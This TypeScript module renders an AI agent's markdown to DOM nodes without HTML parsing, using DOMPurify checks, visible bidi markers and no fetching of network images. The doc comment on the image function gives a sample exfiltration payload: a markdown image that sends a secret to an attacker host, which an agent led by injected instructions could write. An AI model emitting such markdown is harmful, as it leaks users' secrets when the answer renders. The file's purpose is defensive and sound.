/**
 * Markdown tokens → DOM nodes, with no HTML parse: every element is made by name here, every piece of agent text
 * becomes a text node, and every attribute is set with `setAttribute`. What an agent writes can therefore never
 * become markup, whatever it holds (docs/adr/0004-markdown-to-dom.md).
 *
 * The nodes are the ones `marked`'s own HTML renderer (with raw HTML shown as text, as `markdown.ts` configures it)
 * gives once the browser has parsed its HTML and DOMPurify has sanitized it with the rules of `markdown.ts`; the
 * webview test `markdownDom.test.mjs` checks that, node for node, on a corpus. Where the two differ, this side is the
 * stricter one (see `decodeReferences`).
 *
 * URLs are the one place where agent input decides more than text: a link's `href` and an image's `src` are kept only
 * when DOMPurify's attribute policy (`DOMPurify.isValidAttribute`, configured by `markdown.ts`) accepts them. An
 * image shows only from a `data:image/` URL; one from the network becomes a link to it and is never fetched
 * (`image`).
 */
import DOMPurify from "dompurify";
import { decodeHTMLStrict } from "entities";
import type { Token, Tokens } from "marked";
import * as l10n from "@vscode/l10n";
import { showBidiControls } from "./ansi";

/**
 * Builds the nodes for a run of block tokens (`marked.lexer`'s output, or part of it) in a new fragment of the
 * page's document. Token types `marked` may add later are shown as their source text.
 */
export function buildMarkdown(tokens: readonly Token[]): DocumentFragment {
  const fragment = document.createDocumentFragment();
  blocks(fragment, tokens);
  return fragment;
}

/**
 * The text a character reference stands for, as HTML shows it (also for `markdown.ts`'s plain text): `&amp;`, `&#x2192;`, `&copy;` become their
 * characters. Only references that end with `;` are read, as CommonMark does (a browser also reads a few legacy
 * names without one, as in `&notit;`, which `marked`'s output would have shown as "¬it;").
 */
export function decodeReferences(text: string): string {
  return text.includes("&") ? decodeHTMLStrict(text) : text;
}

/** Agent text as a text node, its bidi controls shown as visible markers (`showBidiControls`, "Trojan Source"). */
function append(parent: Node, text: string): void {
  if (text) parent.appendChild(document.createTextNode(showBidiControls(text)));
}

function element<K extends keyof HTMLElementTagNameMap>(parent: Node, name: K): HTMLElementTagNameMap[K] {
  return parent.appendChild(document.createElement(name));
}

function attribute(el: Element, name: string, value: string): void {
  el.setAttribute(name, showBidiControls(value));
}

function blocks(parent: Node, tokens: readonly Token[]): void {
  for (const token of tokens) block(parent, token);
}

function block(parent: Node, token: Token): void {
  switch (token.type) {
    case "space":
    case "def":
      return;
    case "heading": {
      const { depth, tokens } = token as Tokens.Heading;
      inline(element(parent, `h${Math.min(Math.max(depth, 1), 6)}` as "h1"), tokens);
      return;
    }
    case "paragraph":
      inline(element(parent, "p"), (token as Tokens.Paragraph).tokens);
      return;
    case "text": {
      const text = token as Tokens.Text;
      if (text.tokens) inline(parent, text.tokens);
      else append(parent, decodeReferences(text.text));
      return;
    }
    case "code": {
      const { text, lang, escaped } = token as Tokens.Code;
      const code = element(element(parent, "pre"), "code");
      // The info string's first word names the language; only a plain name may become the class the highlighter reads.
      const language = decodeReferences(/^\S*/.exec(lang ?? "")?.[0] ?? "");
      if (language && CODE_LANGUAGE.test(language)) code.className = `language-${language}`;
      const body = text ? `${text.replace(/\n$/, "")}\n` : "";
      append(code, escaped ? decodeReferences(body) : body);
      return;
    }
    case "blockquote":
      blocks(element(parent, "blockquote"), (token as Tokens.Blockquote).tokens);
      return;
    case "hr":
      element(parent, "hr");
      return;
    case "html": {
      // Raw HTML is shown as the text it is: a block as a paragraph, its lines kept.
      const { text, block: isBlock } = token as Tokens.HTML;
      if (!isBlock) return append(parent, text);
      const p = element(parent, "p");
      text.trimEnd().split("\n").forEach((line, i) => {
        if (i) element(p, "br");
        append(p, line);
      });
      return;
    }
    case "list": {
      const list = token as Tokens.List;
      const el = element(parent, list.ordered ? "ol" : "ul");
      if (list.ordered && list.start !== 1 && list.start !== "") attribute(el, "start", String(list.start));
      for (const item of list.items) blocks(element(el, "li"), item.tokens);
      return;
    }
    case "checkbox":
      checkbox(parent, token as Tokens.Checkbox);
      return;
    case "table": {
      const table = token as Tokens.Table;
      const el = element(parent, "table");
      row(element(element(el, "thead"), "tr"), table.header);
      if (table.rows.length) {
        const body = element(el, "tbody");
        for (const cells of table.rows) row(element(body, "tr"), cells);
      }
      return;
    }
    default:
      append(parent, token.raw);
  }
}

function row(tr: HTMLTableRowElement, cells: readonly Tokens.TableCell[]): void {
  for (const cell of cells) {
    const el = element(tr, cell.header ? "th" : "td");
    if (cell.align) attribute(el, "align", cell.align);
    inline(el, cell.tokens);
  }
}

/** A GFM task list item's box: shown, never a form control. */
function checkbox(parent: Node, token: Tokens.Checkbox): void {
  const input = element(parent, "input");
  if (token.checked) input.setAttribute("checked", "");
  input.setAttribute("disabled", "");
  input.setAttribute("type", "checkbox");
  append(parent, " ");
}

function inline(parent: Node, tokens: readonly Token[] | undefined): void {
  for (const token of tokens ?? []) {
    switch (token.type) {
      case "escape":
        append(parent, (token as Tokens.Escape).text);
        break;
      case "text": {
        const text = token as Tokens.Text;
        if (text.tokens) inline(parent, text.tokens);
        else append(parent, decodeReferences(text.text));
        break;
      }
      case "html":
        append(parent, (token as Tokens.Tag).text);
        break;
      case "strong":
      case "em":
      case "del":
        inline(element(parent, token.type), (token as Tokens.Strong).tokens);
        break;
      case "codespan":
        append(element(parent, "code"), (token as Tokens.Codespan).text);
        break;
      case "br":
        element(parent, "br");
        break;
      case "link":
        link(parent, token as Tokens.Link);
        break;
      case "image":
        image(parent, token as Tokens.Image);
        break;
      case "checkbox":
        checkbox(parent, token as Tokens.Checkbox);
        break;
      default:
        append(parent, token.raw);
    }
  }
}

/**
 * A link: `<a>` with its `href` when DOMPurify's policy keeps it (then also as the tooltip, so the address is seen
 * before the click), else without one (its text stays, not a link). A destination `encodeURI` rejects is no link.
 * Clicks never navigate the view: `History` sends them to the host (`editor/openLink`).
 */
function link(parent: Node, token: Tokens.Link): void {
  const href = encodedUrl(token.href);
  const content = (into: Node) => (token.autolink ? append(into, token.text) : inline(into, token.tokens));
  if (href === null) return content(parent);
  const a = element(parent, "a");
  const value = decodeReferences(href).trim();
  if (DOMPurify.isValidAttribute("a", "href", value)) {
    attribute(a, "href", value);
    if (value) attribute(a, "title", value);
    else if (token.title) attribute(a, "title", decodeReferences(token.title));
  } else if (token.title) {
    attribute(a, "title", decodeReferences(token.title));
  }
  a.setAttribute("rel", "noopener noreferrer");
  content(a);
}

/**
 * An image. One in the text (`data:image/`) shows as `<img>`. One from the network (`http(s):`) is never fetched by
 * the view: an agent that was led to write `![x](https://attacker.example/?q=<secret>)` would otherwise send the
 * secret out as soon as the answer shows. It becomes a link to the image instead (an image icon and its alt text);
 * a click asks the host, which opens it in the browser after VS Code's own confirmation, as for any link. Any other
 * source shows the `alt` text only.
 */
function image(parent: Node, token: Tokens.Image): void {
  const alt = decodeReferences(token.tokens ? plainText(token.tokens) : token.text);
  const src = encodedUrl(token.href);
  if (src === null) return append(parent, alt);
  const value = decodeReferences(src).trim();
  if (REMOTE_IMAGE.test(value) && DOMPurify.isValidAttribute("a", "href", value)) return remoteImage(parent, value, alt);
  const img = element(parent, "img");
  if (INLINE_IMAGE.test(value) && DOMPurify.isValidAttribute("img", "src", value)) attribute(img, "src", value);
  attribute(img, "alt", alt);
  if (token.title) attribute(img, "title", decodeReferences(token.title));
}

/** A network image, not loaded: a link to it, with an image icon and the image's alt text (else its file name). */
function remoteImage(parent: Node, url: string, alt: string): void {
  const a = element(parent, "a");
  a.className = "md-remote-image";
  attribute(a, "href", url);
  attribute(a, "title", l10n.t("Image not loaded: {0}", url));
  a.setAttribute("rel", "noopener noreferrer");
  const icon = element(a, "span");
  icon.className = "codicon codicon-file-media";
  icon.setAttribute("aria-hidden", "true");
  append(a, alt || decodeURIComponentSafe(url.replace(/[?#].*$/, "").split("/").pop() ?? "") || url);
}

function decodeURIComponentSafe(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

/** An image the view shows: its data is in the text (the CSP allows no other source for answers' images). */
const INLINE_IMAGE = /^data:image\//i;

/** An image on the network: shown as a link to it, never fetched by the view. */
const REMOTE_IMAGE = /^https?:/i;

/** A code block's language class: `language-` and a plain name, which is all the highlighter reads. */
const CODE_LANGUAGE = /^[\w#+.-]+$/;

/** A URL as `marked` writes it into HTML (`encodeURI`, with `%` kept), or null when `encodeURI` rejects it. */
function encodedUrl(url: string): string | null {
  try {
    return encodeURI(url).replace(/%25/g, "%");
  } catch {
    return null;
  }
}

/**
 * The plain text of inline tokens, as `marked`'s text renderer gives it (character references not decoded yet): an
 * image's `alt`, and the words `markdown.ts` reads out. A task list's checkbox is no text.
 */
export function plainText(tokens: readonly Token[]): string {
  let text = "";
  for (const token of tokens) {
    if (token.type === "br") text += "\n";
    else if (token.type === "checkbox") continue;
    else if ("tokens" in token && token.tokens) text += plainText(token.tokens);
    else if ("text" in token && typeof token.text === "string") text += token.text;
  }
  return text;
}
